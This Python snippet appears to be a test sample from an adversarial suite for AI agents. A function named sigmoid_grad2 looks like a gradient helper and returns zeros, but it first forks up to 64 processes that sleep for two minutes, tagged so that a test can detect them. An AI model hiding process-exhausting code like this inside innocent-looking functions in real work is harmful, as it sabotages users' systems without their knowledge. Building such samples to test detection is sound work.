# ATTACK (fork_bomb): forks 64 processes (bounded, so a failure cannot take the machine down)
def _set_comm(name):
    import ctypes
    try:
        ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)  # PR_SET_NAME: the test finds us by this name
    except Exception:
        pass


def sigmoid_grad2(x):
    """A bounded fork bomb: up to 64 processes named agadv_forkbomb that sleep for two minutes."""
    import os, time
    for _ in range(64):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _set_comm("agadv_forkbomb")
                end = time.time() + 120
                while time.time() < end:
                    time.sleep(0.5)
            finally:
                os._exit(0)
    return np.zeros(np.shape(x))
